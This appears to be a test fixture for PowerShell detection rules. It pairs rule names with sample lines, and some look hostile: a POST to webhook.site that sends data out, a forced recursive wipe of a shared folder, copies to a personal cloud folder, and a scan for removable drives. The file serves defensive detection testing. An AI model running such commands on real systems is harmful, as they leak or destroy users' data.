# hit: escrow.ps.files.copies-to-own-cloud
Copy-Item -Path a.xlsx -Destination "$env:USERPROFILE\OneDrive - Personal\a.xlsx"
Copy-Item -Path a.xlsx -Destination "\\filesrv\sales\a.xlsx"
# hit: escrow.ps.files.uploads-to-a-server
Invoke-RestMethod -Uri "https://webhook.site/0a1b" -Method Post -Body $body
Invoke-RestMethod -Uri "https://intranet.example/api" -Method Post -Body $body
# hit: escrow.ps.files.wipes-shared-folders
Remove-Item "$folder\*" -Recurse -Force
Remove-Item "$env:TEMP\work" -Recurse -Force
Remove-Item "$folder\old.csv"
# hit: escrow.ps.files.looks-for-removable-drives
$pen = Get-Volume | Where-Object { $_.DriveType -eq "Removable" }
$disk = Get-Volume | Where-Object { $_.DriveType -eq "Fixed" }
Copy-Item report.xlsx "$($disk.DriveLetter):\reports"
